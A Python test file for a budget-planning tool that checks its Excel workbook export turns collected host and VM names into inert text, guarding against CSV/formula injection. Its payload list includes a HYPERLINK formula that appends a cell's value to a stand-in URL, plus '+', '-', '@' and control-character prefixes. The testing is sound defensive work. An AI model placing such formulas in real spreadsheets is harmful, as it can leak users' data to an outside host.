"""The budget workbook never turns collected names into formulas (CSV/formula injection)."""

import re
import zipfile
from io import BytesIO

from openpyxl import load_workbook
from sqlalchemy import Engine
from sqlmodel import Session

from collectors.demo import generate_demo_estate
from inventory import Snapshot, ensure_default_catalogue, session_scope, upsert_observations
from parcimonie.planning import PlanRequest, load_estate, run_plan
from parcimonie.planning.workbook import workbook_bytes
from parcimonie.planning.workbook_cells import inert
from tests.conftest import TODAY

#: The only formulas the workbook writes: its own totals (sums and differences of its own cells).
TOTALS = re.compile(r"^=(SUM\([A-Z]+\d+([,:][A-Z]+\d+)*\)|[A-Z]+\d+([-+][A-Z]+\d+)+)$")
TOTAL_SHEETS = {"Budget M57", "AP-CP"}
FORMULAS = ('=HYPERLINK("http://e/?"&B2,"x")', "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1", "#N/A")


def test_inert_text() -> None:
    assert [inert(v) for v in FORMULAS[:6]] == ["'" + v for v in FORMULAS[:6]]
    assert inert("vm-01") == "vm-01" and inert(3) == 3 and inert(None) is None
    assert inert("a\x01b") == "a\ufffdb"  # a character a workbook cannot hold does not fail the export


def test_formula_names_stay_text(sqlite_engine: Engine) -> None:
    estate = generate_demo_estate(n_vms=80, today=TODAY)
    for i, host in enumerate(estate.hosts):
        host.name = f"{FORMULAS[i % len(FORMULAS)]}h{i}"
    for i, vm in enumerate(estate.vms):
        vm.name = f"{FORMULAS[i % len(FORMULAS)]}v{i}\x02"
    with session_scope(sqlite_engine) as session:
        ensure_default_catalogue(session)
        upsert_observations(session=session, source="demo", snapshot=Snapshot.model_validate(estate.model_dump()))
    with Session(sqlite_engine) as session:
        plan = run_plan(load_estate(session), PlanRequest(), today=TODAY).document()
    assert plan.replacement is not None and plan.consolidation.placement
    data = workbook_bytes(plan, title='=HYPERLINK("http://e/","titre")')
    book = load_workbook(BytesIO(data))
    with zipfile.ZipFile(BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == len(book.worksheets)
        for name, sheet in zip(sheets, book.worksheets, strict=True):
            if sheet.title not in TOTAL_SHEETS:
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert sheet.title in TOTAL_SHEETS and TOTALS.match(str(cell.value)), (sheet.title, cell.value)
                elif isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (sheet.title, cell.value)
    placement = [row for row in book["Placement"].iter_rows(min_row=2, values_only=True)]
    assert any(str(vm).startswith("'=HYPERLINK") for vm, _, _ in placement)
    assert book["Synthèse"]["B2"].value == '\'=HYPERLINK("http://e/","titre")'
    retired = [row[0] for row in book["Hôtes à retirer"].iter_rows(min_row=2, values_only=True)]
    assert retired and all(not str(h).startswith(("=", "+", "-", "@")) for h in retired)
    moves = [row for row in book["Migrations"].iter_rows(min_row=2, values_only=True) if row[1] is not None]
    assert len(moves) == plan.consolidation.n_migrations > 0
    assert any(str(vm).startswith("'=HYPERLINK") for vm, _, _ in moves)
